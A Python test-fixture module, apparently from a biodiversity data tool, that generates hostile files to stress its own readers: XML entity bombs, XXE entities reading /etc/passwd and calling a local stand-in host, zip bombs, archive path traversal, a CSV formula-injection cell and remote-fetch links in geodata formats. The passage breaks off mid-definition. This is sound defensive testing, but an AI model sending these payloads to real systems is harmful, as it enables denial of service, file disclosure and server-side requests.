"""Files made to crash, hang, fill or call: each by name, small on disk, and what it would have a reader do.

`files(folder)` makes them all; tests/stress/attack_commands.py gives each to every command that reads such files.
"""

# ruff: noqa: S608 - statements and files as an attacker writes them

import base64
import gzip
import io
import json
import os
import sqlite3
import struct
import tarfile
import tempfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from hostile_files import GPX, KML, META, OPEN_SHEET, SEEN, SEEN_TERMS, WORD, layers, list_workbook, packed
from reads import packed as deflated

HEADERS = "scientific_name,korean_name,status,site,count,latitude,longitude,party,position,timestamp,source,id,species,decision,wkt,months"
SPECIES = "Grus japonensis"
CALL = "http://127.0.0.1:9/theirs"


@dataclass(frozen=True, slots=True)
class Attack:
    """A file, the kind of reader that it is for, and what it tries."""

    name: str
    path: Path
    kind: str
    tries: str


MADE: list[tuple[str, str, str, Callable[[Path], bytes | None]]] = []


def attack(name: str, kind: str, tries: str) -> Callable[[Callable[[Path], bytes | None]], None]:
    """Register what makes a file: its bytes, or None where it has written it itself."""

    def register(make: Callable[[Path], bytes | None]) -> None:
        MADE.append((name, kind, tries, make))

    return register


def files(folder: Path, words: Sequence[str] = ()) -> Iterator[Attack]:
    """Make every file, or those with one of the words in their names, each in a folder of its own."""
    for name, kind, tries, make in MADE:
        if words and not any(word in name for word in words):
            continue
        path = folder / name.partition(".")[0] / name
        path.parent.mkdir(parents=True, exist_ok=True)
        _written(path, make)
        yield Attack(name, path, kind, tries)


def _written(path: Path, make: Callable[[Path], bytes | None]) -> None:
    """Make a file in a process of its own: its memory would count as that of the runs that are forked from here."""
    process = os.fork()
    if process:
        assert os.waitpid(process, 0)[1] == 0, path.name
        return
    code = 1
    try:
        data = make(path)
        if data is not None:
            path.write_bytes(data)
        code = 0
    finally:
        os._exit(code)


FILLERS = {
    "quotes": "'", "brackets": "(", "angles": "<", "blanks": " ", "hyphens": "-", "digits": "1", "commas": "; ", "initials": "A. ", "dots": ".",
    "slashes": "/", "degrees": "1° ", "stars": "*", "ampersands": "& ", "wide": "　", "kana": "ア・", "months": "1月", "years": "2020-", "marks": "é",
    "capitals": "A", "squares": "[1,", "braces": "{", "equals": "= ", "authors": "(A, 1", "numbers": "1,",
}  # fmt: skip


def _endless(filler: str, length: int) -> bytes:
    """A row for each column with a cell of the filler in it, and one row with nothing but such cells."""
    columns = HEADERS.split(",")
    cell = '"' + (filler * length)[:length].replace('"', "'") + '"'
    usual = ["Grus grus"] + ["1"] * (len(columns) - 1)
    rows = [[*usual[:at], cell, *usual[at + 1 :]] for at in range(len(columns))]
    return "\n".join([HEADERS, *map(",".join, rows), ",".join([cell] * len(columns))]).encode()


for _word, _filler in FILLERS.items():
    attack(f"{_word}.csv", "table", "patterns that go back again and again")(
        lambda _, filler=_filler: _endless(filler, 4_900)
    )


def one_page(content: bytes, pages: int = 1) -> bytes:
    """A PDF of a page that draws this, or of as many as are wanted."""
    packed_up = zlib.compress(content, 9)
    kids = b" ".join(b"%d 0 R" % number for number in range(4, 4 + pages))
    parts = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, pages),
        b"<</Length %d/Filter/FlateDecode>>stream\n%b\nendstream" % (len(packed_up), packed_up),
        *[b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 3 0 R/Resources<<>>>>"] * pages,
    )
    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % (number, part) for number, part in enumerate(parts, 1))
    return b"%PDF-1.7\n" + body + b"trailer<</Size %d/Root 1 0 R>>\n%%%%EOF\n" % (4 + pages)


def sheet(cells: str, **parts: str) -> bytes:
    """A minimal workbook with these rows in its only sheet."""
    schemas = "http://schemas.openxmlformats.org"
    main, office = f"{schemas}/spreadsheetml/2006/main", f"{schemas}/officeDocument/2006/relationships"
    made = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{office}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}">{cells}</worksheet>',
        "xl/sharedStrings.xml": f'<sst xmlns="{main}" uniqueCount="1"><si><t>scientific_name</t></si></sst>',
    }
    changed = {name.replace("__", "/").replace("_xml", ".xml"): text for name, text in parts.items()}
    return deflated(made | changed)


ROWS = '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>Grus grus</t></is></c></row></sheetData>'
BOMB = "<!DOCTYPE a [<!ENTITY a0 'aaaaaaaaaa'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"  # fmt: skip
OUTSIDE = f"<!DOCTYPE a [<!ENTITY a0 SYSTEM 'file:///etc/passwd'><!ENTITY a1 SYSTEM '{CALL}'>]>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


for _tag in ("div", "table", "b", "font", "tr"):
    attack(f"deep_{_tag}.html", "table", "elements inside elements")(
        lambda _, tag=_tag: f"<html><table><tr><td>{f'<{tag}>' * 100_000}학명".encode()
    )


@attack("sparse.tar", "records", "a file of a terabyte of nothing")
def _(path: Path) -> bytes:
    info = tarfile.TarInfo("occurrence.csv")
    head = bytearray(info.tobuf(tarfile.GNU_FORMAT))
    head[156:157] = b"S"  # a sparse file, in GNU's way
    head[386:410] = b"%011o\0%011o\0" % (0, 0)
    head[483:495] = b"\x80" + (1 << 40).to_bytes(11, "big")
    head[148:156] = b"        "
    head[148:156] = b"%06o\0 " % sum(head[:512])
    return bytes(head[:512]) + bytes(1024)


@attack("links.tar", "records", "links that lead out")
def _(path: Path) -> bytes:
    with io.BytesIO() as held:
        with tarfile.open(fileobj=held, mode="w") as archive:
            for kind, target in (
                (tarfile.SYMTYPE, "/etc/passwd"), (tarfile.LNKTYPE, "../../x"), (tarfile.FIFOTYPE, ""),
            ):  # fmt: skip
                info = tarfile.TarInfo(f"{kind.decode()}.csv")
                info.type, info.linkname = kind, target
                archive.addfile(info)
        return held.getvalue()


def _collection(geometry: str, extra: str = "") -> bytes:
    return f'{{"type":"FeatureCollection",{extra}"features":[{{"type":"Feature","properties":{{"id":"a","name":"A","party":"JPN"}},"geometry":{geometry}}}]}}'.encode()


POINT = '{"type":"Point","coordinates":[135,35]}'
for name, system in (
    ("escaped", f'"\\u0063rs":{{"type":"link","properties":{{"href":"{CALL}"}}}},'),
    ("padded", f'"crs":{{{" " * 2000}"type":"link","properties":{{"href":"{CALL}"}}}},'),
):
    attack(f"{name}.geojson", "layer", "the same, spelled so that no pattern finds it")(
        lambda _, system=system: _collection(POINT, system)
    )


def _shapefile(path: Path, part: str, put: bytes, at: int | None = None) -> None:
    """A shapefile of which a part has these bytes at a place, or is nothing but these."""
    with tempfile.TemporaryDirectory() as folder:
        layers(Path(folder))
        for each in ("shp", "shx", "dbf", "prj"):
            data = Path(folder, f"a.{each}").read_bytes()
            if each == part:
                data = put if at is None else data[:at] + put + data[at + len(put) :]
            path.with_suffix(f".{each}").write_bytes(data)


def _layer(path: Path, *statements: str) -> None:
    """A GeoPackage of one layer, after what was done to it; the journal may stay open."""
    with tempfile.TemporaryDirectory() as folder:
        layers(Path(folder))
        path.write_bytes(Path(folder, "a.gpkg").read_bytes())
    _change(path, *statements)


def _change(path: Path, *statements: str) -> None:
    """Change a GeoPackage by statements; the functions that its triggers call are none."""
    with closing(sqlite3.connect(path, isolation_level=None)) as connection:
        for name in ("ST_IsEmpty", "ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY"):
            connection.create_function(name, 1, lambda _: 0)
        for statement in statements:
            connection.execute(statement)


HEAD = struct.pack("<2sBBi4d", b"GP", 0, 3, 4326, 130.0, 131.0, 34.0, 35.0)
NESTED = HEAD + struct.pack("<BII", 1, 7, 1) * 100_000 + struct.pack("<BI2d", 1, 1, 130.0, 35.0)


USUAL = {"decimalLongitude": [135.0], "decimalLatitude": [35.0], "eventDate": ["2020-01-01"]}


def _parquet(times: int = 1, columns: dict[str, Any] | None = None, **how: Any) -> bytes:
    """A table of these columns beside the usual ones, written so many times into one file."""
    import pyarrow as pa
    from pyarrow import parquet

    table = pa.table({"scientificName": ["Grus grus"], **USUAL} | (columns or {}))
    with io.BytesIO() as held:
        with parquet.ParquetWriter(held, table.schema, **how) as writer:
            for _ in range(times):
                writer.write_table(table)
        return held.getvalue()


@attack("rows.parquet", "records", "a hundred million rows in a few bytes")
def _(path: Path) -> bytes:
    import pyarrow as pa

    rows = 1 << 20
    names = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array(["Grus grus"]))
    usual = {name: cell * rows for name, cell in USUAL.items()}
    return _parquet(100, {"scientificName": names, **usual}, compression="zstd")


@attack("text.parquet", "records", "a cell of a gigabyte")
def _(path: Path) -> bytes:
    how = {"compression": "zstd", "use_dictionary": False, "write_statistics": False}
    return _parquet(columns={"scientificName": ["a" * 500_000_000]}, **how)


@attack("flipped.parquet", "records", "a damaged footer")
def _(path: Path) -> bytes:
    data = bytearray(_parquet())
    size = int.from_bytes(data[-8:-4], "little")
    for at in range(len(data) - 8 - size, len(data) - 8, 7):
        data[at] ^= 0x55
    return bytes(data)


def _link(path: Path, to: Path) -> None:
    path.unlink(missing_ok=True)
    path.symlink_to(to)


# What each file is for, what it tries, and what makes it: a row each, or two.
# fmt: off
# ---------------------------------------------------------------- text

attack("endless.csv", "table", "a cell that takes for ever")(lambda _: _endless("' ", 60_000))
attack("combining.csv", "table", "letters that sort their marks for ever")(lambda _: f"scientific_name,note\n{SPECIES},a{'̛̖́' * 60_000}\n".encode())
attack("wide.csv", "table", "a million columns")(lambda _: b"a," * 1_000_000 + b"\n" + b"1," * 1_000_000)
attack("long.csv", "table", "a hundred thousand rows of little, as many as a list may have")(
    lambda _: b"scientific_name\n" + b"Grus grus\n" * 100_000)
attack("openquote.csv", "table", "a quote that never closes")(lambda _: b'scientific_name\n"' + b"a\n" * 400_000)
attack("nul.csv", "table", "control characters")(lambda _: b"scientific_name\n" + bytes(range(32)) * 100)
attack("digits.csv", "table", "numbers of five thousand digits")(lambda _: f"{HEADERS}\n{','.join(['9' * 4_500] * 16)}\n".encode())
attack("odd_numbers.csv", "table", "numbers that are none")(
    lambda _: (HEADERS + "\n" + "\n".join(",".join([each] * 16) for each in ("1e999", "NaN", "-inf", "0x10", "1_0", "٣", "²", "½", "-0"))).encode())
attack("formula.csv", "table", "formulas and terminal codes")(lambda _: f"{HEADERS}\n=cmd|' /C calc'!A0,\x1b]0;theirs\x07,@SUM(1),+1,-1\n".encode())
attack("utf7.csv", "table", "letters of many encodings")(
    lambda _: b"\xff\xfe" + "scientific_name\ud83d\n".encode("utf-16-le", "surrogatepass") + b"\xd8\x00\xd8")
attack("shift.csv", "table", "escapes of old mail")(lambda _: b"scientific_name\n\x1b$B" + b"0!" * 100_000)
attack("page.pdf", "table", "a page of a hundred megabytes")(lambda _: one_page(b"0 0 m " * 20_000_000))
attack("pages.pdf", "table", "hundreds of pages that take a second each")(lambda _: one_page(b"0 0 m " * 100_000, pages=300))
attack("wkt_nested.csv", "shapes", "collections inside collections")(
    lambda _: f'id,wkt\na,"{"GEOMETRYCOLLECTION(" * 60_000}POINT(1 1){")" * 60_000}"\n'.encode())
attack("wkb_nested.csv", "shapes", "the same in WKB")(lambda _: b"id,wkt\na," + (struct.pack("<BII", 1, 7, 1) * 100_000).hex().encode() + b"\n")
attack("wkt_many.csv", "shapes", "a polygon of brackets")(lambda _: b'id,wkt\na,"POLYGON' + b"(" * 150_000 + b'"\n')

# ---------------------------------------------------------------- workbooks

attack("unique_count.xlsx", "table", "room for four thousand million texts")(
    lambda _: sheet(ROWS, xl__sharedStrings_xml='<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="9999999999999" uniqueCount="9999999999999999"><si><t>a</t></si></sst>'))
attack("dimension.xlsx", "table", "a sheet as large as it says")(lambda _: sheet('<dimension ref="A1:XFD1048576"/>' + ROWS))
attack("corner.xlsx", "table", "a grid of 17 thousand million cells")(
    lambda _: sheet(ROWS.replace("A2", "XFD1048576").replace('r="2"', 'r="1048576"')))
attack("beyond.xlsx", "table", "a cell in no column")(lambda _: sheet(ROWS.replace("A2", "ZZZZ99999999")))
attack("lower.xlsx", "table", "a cell whose place is not seen")(lambda _: sheet(ROWS.replace('r="A2"', "r = 'xfd1048576'").replace("<c r", "<c\tr")))
attack("deep.xlsx", "table", "elements inside elements")(lambda _: sheet("<a>" * 400_000 + ROWS))
attack("bomb.xlsx", "table", "entities of entities")(lambda _: sheet(ROWS, xl__sharedStrings_xml=f"{BOMB}<sst><si><t>&a11;</t></si></sst>"))
attack("outside.xlsx", "table", "entities of other files")(
    lambda _: sheet(ROWS, xl__workbook_xml=f'{OUTSIDE}<workbook><sheets><sheet name="&a0;&a1;"/></sheets></workbook>'))
attack("many_sheets.xlsx", "table", "thousands of sheets")(
    lambda _: sheet(ROWS, xl__workbook_xml='<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>' + "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="r1"/>' for n in range(1, 20_000)) + "</sheets></workbook>"))
attack("merged.xlsx", "table", "half a million merged ranges")(
    lambda _: sheet(ROWS + "<mergeCells>" + "".join(f'<mergeCell ref="A{n}:XFD{n + 9}"/>' for n in range(1, 300_000)) + "</mergeCells>"))
attack("merged_alike.xlsx", "table", "the same merged ranges again and again")(
    lambda _: sheet(ROWS + "<mergeCells>" + '<mergeCell ref="A1:XFD1"/><mergeCell ref="C2:C1048576"/>' * 200_000 + "</mergeCells>"))
attack("formats.xlsx", "table", "a style of a million formats")(
    lambda _: sheet(ROWS, xl__styles_xml="<styleSheet><numFmts>" + '<numFmt numFmtId="164" formatCode="[[[[[y"/>' * 300_000 + "</numFmts></styleSheet>"))
attack("bomb_of_zeros.xlsx", "table", "a gigabyte of blanks in a megabyte")(
    lambda _: deflated({"xl/workbook.xml": "<a/>", **{f"xl/worksheets/sheet{n}.xml": b" " * 100_000_000 for n in range(4)}}))
attack("tags.xlsx", "table", "tags that are looked through again and again")(lambda _: sheet("<c " + "a=' " * 500_000))
attack("formulas.xlsx", "table", "formulas that never end")(lambda _: sheet("<sheetData><row>" + '<c r="A1"><f>1' * 100_000))
attack("open_cells.xlsx", "table", "cells that never close")(lambda _: sheet("<c <row " * 200_000))
attack("repeated.ods", "table", "a thousand million rows")(
    lambda _: packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "META-INF/manifest.xml": "<x/>", "content.xml": OPEN_SHEET.replace('repeated="2"', 'repeated="1000000000"')}))
attack("columns.ods", "table", "a thousand million columns")(
    lambda _: packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "META-INF/manifest.xml": "<x/>", "content.xml": OPEN_SHEET.replace('<table:table-cell office:value-type="string"><text:p>Grus', '<table:table-cell table:number-columns-repeated="999999999" office:value-type="string"><text:p>Grus')}))
attack("deep.ods", "table", "elements inside elements")(
    lambda _: deflated({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "META-INF/manifest.xml": "<x/>", "content.xml": OPEN_SHEET.replace("학명", "<text:span>" * 300_000 + "</text:span>" * 300_000)}))
attack("bomb.ods", "table", "entities of entities")(
    lambda _: packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "META-INF/manifest.xml": "<x/>", "content.xml": BOMB + OPEN_SHEET.replace("학명", "&a11;")}))
attack("circle.xls", "table", "sectors that follow themselves")(
    lambda _: OLE + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6) + struct.pack("<IIIIIIIII", 0, 1, 0, 0, 4096, 0, 1, 0, 0) + struct.pack("<109I", *[0] * 109) + struct.pack("<128I", *[0] * 128) * 4)
attack("noise.xls", "table", "no order at all")(lambda _: OLE + b"Workbook".join(bytes([n]) * 512 for n in range(256)))

# ---------------------------------------------------------------- documents and pages

attack("nested.docx", "table", "tables inside tables")(
    lambda _: packed({"word/document.xml": "<w:document xmlns:w='http://w'><w:body>" + "<w:tbl><w:tr><w:tc><w:p><w:t>a</w:t></w:p>" * 60 + "</w:tc></w:tr></w:tbl>" * 60 + "</w:body></w:document>"}))
attack("deep.docx", "table", "elements inside elements")(lambda _: deflated({"word/document.xml": "<w:a xmlns:w='http://w'>" + "<w:p>" * 300_000}))
attack("span.docx", "table", "a cell as wide as it says")(lambda _: packed({"word/document.xml": WORD.replace('w:val="1"', 'w:val="999999999999"')}))
attack("spans.docx", "table", "many wide cells")(
    lambda _: deflated({"word/document.xml": WORD.replace("<w:tc><w:tcPr>", "<w:tc><w:tcPr><w:gridSpan w:val='2000'/></w:tcPr></w:tc>" * 20_000 + "<w:tc><w:tcPr>")}))
attack("bomb.docx", "table", "entities of entities")(lambda _: packed({"word/document.xml": BOMB + WORD.replace("학명", "&a11;")}))
attack("wide_entities.docx", "table", "entities in another encoding")(
    lambda _: packed({"word/document.xml": ("\ufeff" + BOMB + WORD.replace("학명", "&a11;")).encode("utf-16-le")}))
attack("far.hwpx", "table", "a cell as far as it says")(
    lambda _: packed({"Contents/section0.xml": "<s xmlns:hp='h'><hp:tbl><hp:tr>" + "".join(f"<hp:tc><hp:cellAddr colAddr='{n}' rowAddr='{n * 19}'/><hp:cellSpan colSpan='2000' rowSpan='200000'/><hp:p><hp:t>a</hp:t></hp:p></hp:tc>" for n in range(0, 10_000, 7)) + "</hp:tr></hp:tbl></s>"}))
attack("sections.hwpx", "table", "numbers of sections without end")(lambda _: packed({f"Contents/section{'9' * 5_000}.xml": "<a/>"}))
attack("cells.html", "table", "cells that cover a million columns")(lambda _: b"<table>" + b"<tr><td rowspan=65000 colspan=2000>a" * 3_000)
attack("attributes.html", "table", "a million attributes")(lambda _: b"<table><tr><td " + b"".join(b"a%d=1 " % n for n in range(150_000)) + b">a")
attack("comment.html", "table", "a comment that never ends")(lambda _: b"<table><tr><td>" + b"<!--" * 300_000)
attack("entities.html", "table", "entities of entities")(lambda _: f"{BOMB}<html><table><tr><td>&a11;&a1;".encode())
attack("charset.html", "table", "an encoding that is none")(lambda _: b"<html><meta charset=unicode_escape><table><tr><td>\\x3c\\N{SNOWMAN}")

# ---------------------------------------------------------------- archives

attack("zeros.zip", "archive", "a gigabyte of blanks in a megabyte")(
    lambda _: deflated({"cranes.csv": b"timestamp,location-long,location-lat\n" + b" " * 400_000_000}))
attack("rows.zip", "archive", "a gigabyte of rows in a megabyte")(
    lambda _: deflated({"cranes.csv": b"timestamp,location-long,location-lat,individual-local-identifier\n" + b"2020-01-01,1,1,a\n" * 10_000_000}))
attack("lies.zip", "archive", "sizes that are not true")(
    lambda _: deflated({"list.csv": b"scientific_name\n" + b" " * 5_000_000}).replace(struct.pack("<I", 5_000_016), struct.pack("<I", 16)))
attack("inside.zip", "archive", "an archive inside an archive")(lambda _: deflated({"a.zip": deflated({"b.zip": deflated({"list.csv": b"a"})})}))
attack("paths.zip", "archive", "names that lead out")(lambda _: packed({"../../list.csv": "scientific_name\nGrus grus\n", "/etc/cron.d/x": "a"}))
attack("many.zip", "archive", "sixty thousand members")(lambda _: packed({f"{n}.csv": "" for n in range(60_000)}))
attack("zeros.gz", "records", "two gigabytes of blanks")(lambda _: gzip.compress(SEEN.encode() + b"\n" * 400_000_000, 1))
attack("meta_bomb.zip", "archive", "entities of entities")(
    lambda _: packed({"meta.xml": BOMB + META.format("Occurrence", "&a11;", SEEN_TERMS), "occurrence.txt": SEEN}))
attack("meta_deep.zip", "archive", "elements inside elements")(
    lambda _: deflated({"meta.xml": "<archive>" + "<core>" * 500_000, "occurrence.txt": SEEN}))
attack("meta_path.zip", "archive", "a file that lies elsewhere")(
    lambda _: packed({"meta.xml": META.format("Taxon", "../../../etc/passwd", SEEN_TERMS), "occurrence.txt": SEEN}))

# ---------------------------------------------------------------- layers

attack("nested.geojson", "layer", "collections inside collections")(
    lambda _: _collection('{"type":"GeometryCollection","geometries":[' * 20_000 + POINT + "]}" * 20_000))
attack("nested_some.geojson", "layer", "some collections inside collections")(
    lambda _: _collection('{"type":"GeometryCollection","geometries":[' * 30 + POINT + "]}" * 30))
attack("arrays.geojson", "layer", "arrays inside arrays")(
    lambda _: _collection('{"type":"Polygon","coordinates":' + "[" * 500_000 + "]" * 500_000 + "}"))
attack("properties.geojson", "layer", "objects inside objects")(
    lambda _: _collection(POINT).replace(b'"A"', b'{"a":' * 200_000 + b"1" + b"}" * 200_000))
attack("fields.geojson", "layer", "a hundred thousand fields")(
    lambda _: _collection(POINT).replace(b'"name":"A"', b",".join(b'"f%d":1' % n for n in range(100_000))))
attack("numbers.geojson", "layer", "coordinates that are none")(
    lambda _: _collection('{"type":"Polygon","coordinates":[[[1e999,NaN],[-1e999,1],[1,1e308],[1e999,NaN]]]}'))
attack("link.geojson", "layer", "a reference system that is elsewhere")(
    lambda _: _collection(POINT, f'"crs":{{"type":"link","properties":{{"href":"{CALL}","type":"proj4"}}}},'))
attack("system.geojson", "layer", "a reference system of brackets")(
    lambda _: _collection(POINT, '"crs":{"type":"name","properties":{"name":"' + "PROJCS[" * 20_000 + '"}},'))
attack("records.shp", "layer", "a table of four thousand million rows")(
    lambda path: _shapefile(path, "dbf", struct.pack("<IHH", 0xFFFFFFF0, 0xFFFF, 0xFFFF), at=4))
attack("points.shp", "layer", "a shape of as many points as it says")(
    lambda path: _shapefile(path, "shp", struct.pack("<II", 0x7FFFFFFF, 0x7FFFFFFF), at=144))
attack("system.shp", "layer", "a reference system of brackets")(lambda path: _shapefile(path, "prj", b'PROJCS["' + b'GEOGCS["a",' * 100_000))
attack("grids.shp", "layer", "a reference system that reads other files")(
    lambda path: _shapefile(path, "prj", b"+proj=longlat +nadgrids=/etc/passwd,@" + CALL.encode() + b" +geoidgrids=/dev/zero"))
attack("esri.json", "layer", "a service that has more pages")(
    lambda _: json.dumps({"objectIdFieldName": "a", "exceededTransferLimit": True, "geometryType": "esriGeometryPoint", "spatialReference": {"wkid": 4326}, "fields": [{"name": "a", "type": "esriFieldTypeOID"}], "features": [{"attributes": {"a": 1}, "geometry": {"x": 1, "y": 1}}], "type": "FeatureCollection"}).encode())
attack("service.json", "layer", "a description of a service")(
    lambda _: (f'{{"type":"FeatureCollection","links":[{{"rel":"data","href":"{CALL}"}}],"landingPage":"{CALL}","features":[]}}'.encode()))
attack("combs.geojson", "layer", "areas of a site that cross a million times")(
    lambda _: json.dumps({"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"id": "a", "site_id": "a", "name": "A", "party": "JPN", "source": str(turned)}, "geometry": {"type": "Polygon", "coordinates": [_comb(turned=turned)]}} for turned in (False, True)]}).encode())
attack("vrt.geojson", "layer", "a layer that is elsewhere")(
    lambda _: (f'<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>/vsicurl/{CALL}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'.encode()))
attack("algorithm.geojson", "layer", "a program as a layer")(
    lambda _: (f'{{"type":"gdal_streamed_alg","command_line":"gdal vector pipeline ! read {CALL}","x":"FeatureCollection"}}'.encode()))
attack("topology.json", "layer", "arcs that are not there")(
    lambda _: (b'{"type":"Topology","x":{"type":"FeatureCollection"},"objects":{"a":{"type":"GeometryCollection","geometries":[{"type":"Polygon","arcs":[[99999999]]}]}},"arcs":[]}'))
attack("network.kml", "layer", "a link to a page")(
    lambda _: KML.replace("<Folder>", f"<NetworkLink><Link><href>{CALL}</href></Link></NetworkLink><styleUrl>{CALL}#a</styleUrl><Schema url='{CALL}'/><Folder>").encode())
attack("folders.kml", "layer", "folders inside folders")(
    lambda _: KML.replace("<Folder>", "<Folder>" * 50_000).replace("</Folder>", "</Folder>" * 50_000).encode())
attack("shapes.kml", "layer", "shapes inside shapes")(
    lambda _: (KML.replace("<Point>", "<MultiGeometry>" * 30_000 + "<Point>") .replace("</Point>", "</Point>" + "</MultiGeometry>" * 30_000) .encode()))
attack("bomb.kml", "layer", "entities of entities")(lambda _: (BOMB + KML.replace("<name>A", "<name>&a11;")).encode())
attack("wide_bomb.kml", "layer", "entities in another encoding")(
    lambda _: ("\ufeff<?xml version='1.0' encoding='utf-16'?>" + BOMB + KML.replace("<name>A", "<name>&a11;")).encode("utf-16-le"))
attack("page.kml", "layer", "a page of a million elements")(
    lambda _: KML.replace("<name>A</name>", f"<name>A</name><description><![CDATA[{'<div>' * 200_000}]]></description>").encode())
attack("names.kml", "layer", "names of fields that never end")(lambda _: (KML + "<Data " * 200_000).encode())
attack("schema.gml", "layer", "a schema and a geometry that are elsewhere")(
    lambda _: (f'<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" xmlns:gml="http://www.opengis.net/gml" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{CALL} {CALL}.xsd"><gml:featureMember><ogr:a fid="a.0"><ogr:geometryProperty xlink:href="{CALL}#a"/><ogr:id>a</ogr:id><gml:Point srsName="{CALL}"><gml:pos>35 135</gml:pos></gml:Point></ogr:a></gml:featureMember></ogr:FeatureCollection>'.encode()))
attack("nested.gml", "layer", "shapes inside shapes")(
    lambda _: ('<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" xmlns:gml="http://www.opengis.net/gml"><gml:featureMember><ogr:a fid="a.0"><ogr:geometryProperty>' + "<gml:MultiGeometry><gml:geometryMember>" * 20_000 + "<gml:Point><gml:pos>35 135</gml:pos></gml:Point>" + "</gml:geometryMember></gml:MultiGeometry>" * 20_000 + "</ogr:geometryProperty></ogr:a></gml:featureMember></ogr:FeatureCollection>").encode())
attack("length.fgb", "layer", "features as long as they say")(lambda _: b"fgb\x03fgb\x00" + struct.pack("<I", 0x7FFFFFFF) + b"\x00" * 4_000)
attack("noise.fgb", "layer", "no order at all")(lambda _: b"fgb\x03fgb\x00" + struct.pack("<I", 64) + bytes(range(256)) * 20)
attack("nested.gpkg", "layer", "collections inside collections")(lambda path: _layer(path, f"UPDATE a SET geom = x'{NESTED.hex()}'"))
attack("size.gpkg", "layer", "a shape of as many points as it says")(
    lambda path: _layer(path, f"UPDATE a SET geom = x'{(HEAD + struct.pack('<BII', 1, 2, 0xFFFFFFFF)).hex()}'"))
attack("view.gpkg", "layer", "a view that never ends")(
    lambda path: _layer(path, "ALTER TABLE a RENAME TO b", "CREATE VIEW a AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x AS fid, NULL AS geom, x AS id FROM n"))
attack("blobs.gpkg", "layer", "cells of half a gigabyte")(
    lambda path: _layer(path, "ALTER TABLE a RENAME TO b", "CREATE VIEW a AS SELECT fid, geom, zeroblob(500000000) AS id, hex(zeroblob(250000000)) AS name FROM b"))
attack("virtual.gpkg", "layer", "tables that are other files")(
    lambda path: _layer(path, "PRAGMA writable_schema = 1", f"INSERT INTO sqlite_master VALUES ('table', 'v', 'v', 0, 'CREATE VIRTUAL TABLE v USING VirtualOGR(''/vsicurl/{CALL}'')')", "INSERT INTO gpkg_contents (table_name, data_type, srs_id) VALUES ('v', 'features', 4326)"))
attack("wal.gpkg", "layer", "a journal that wants to be written")(lambda path: _layer(path, "PRAGMA journal_mode = WAL"))
attack("rows.gpkg", "layer", "a table that is said to be endless")(
    lambda path: _layer(path, "CREATE TABLE IF NOT EXISTS gpkg_ogr_contents (table_name TEXT PRIMARY KEY, feature_count INTEGER)", "UPDATE gpkg_ogr_contents SET feature_count = 9223372036854775807"))

# ---------------------------------------------------------------- tracks and records

attack("bomb.gpx", "tracks", "entities of entities")(lambda _: (BOMB + GPX.replace("<name>c", "<name>&a11;")).encode())
attack("wide_bomb.gpx", "tracks", "entities in another encoding")(
    lambda _: ("\ufeff<?xml version='1.0' encoding='utf-16'?>" + BOMB + GPX.replace("<name>c", "<name>&a11;")).encode("utf-16-le"))
attack("late_bomb.gpx", "tracks", "entities behind a long comment")(
    lambda _: ("<!--<gpx" + "a" * 300_000 + "-->" + BOMB + GPX.replace("<name>c", "<name>&a11;")).encode())
attack("deep.gpx", "tracks", "elements inside elements")(lambda _: ("<gpx><trk>" + "<a>" * 500_000).encode())
attack("wide.gpx", "tracks", "a track of two million elements")(lambda _: b"<gpx><trk>" + b"<a/>" * 2_000_000 + b"</trk></gpx>")
attack("name.gpx", "tracks", "a name that never ends")(lambda _: b"<gpx><trk><name>" + b"a" * 50_000_000 + b"</name></trk></gpx>")
attack("points.gpx", "tracks", "points without a track")(lambda _: ("<gpx>" + '<trkpt lat="1" lon="1"/>' * 200_000 + "</gpx>").encode())
attack("birds.csv", "tracks", "a bird a row")(
    lambda _: (b"timestamp,location-long,location-lat,individual-local-identifier\n" + b"".join(b"2020-01-01 00:00:00,1,1,b%d\n" % n for n in range(60_000))))
attack("times.csv", "tracks", "times of five thousand letters")(
